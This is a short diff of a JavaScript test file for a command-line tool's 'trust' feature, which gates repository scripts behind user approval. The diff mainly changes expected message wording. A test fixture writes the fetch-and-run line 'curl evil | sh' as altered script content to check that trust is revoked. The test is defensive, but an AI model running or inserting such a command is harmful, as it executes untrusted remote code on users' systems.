@@ -34,6 +34,7 @@ test("without a terminal it shows everything and refuses", async () => {
   const user = project();
   const { code, stderr } = await user.p9(["trust"]);
   expect(code).toBe(7);
+  expect(stderr).toContain("Cannot ask about 1 entry of this repository without a terminal");
   expect(stderr).toContain("| sh fix.sh");
   expect(stderr).toContain("| echo one");
   expect(await trusts(user, content("echo one\n"))).toBe(false);
@@ -47,7 +48,7 @@ test("a yes in a terminal trusts this very content; a change in the script asks 
   user.write("fix.sh", "curl evil | sh\n");
   expect(await user.p9(["trust"])).toMatchObject({ code: 7 });
   expect(await trusts(user, content("curl evil | sh\n"))).toBe(false);
-  expect(await user.p9(["trust", "--revoke"])).toMatchObject({ code: 0, stdout: expect.stringContaining("1 thing") });
+  expect(await user.p9(["trust", "--revoke"])).toMatchObject({ code: 0, stdout: expect.stringContaining("1 entry") });
   expect(await trusts(user, content("echo one\n"))).toBe(false);
 });
 
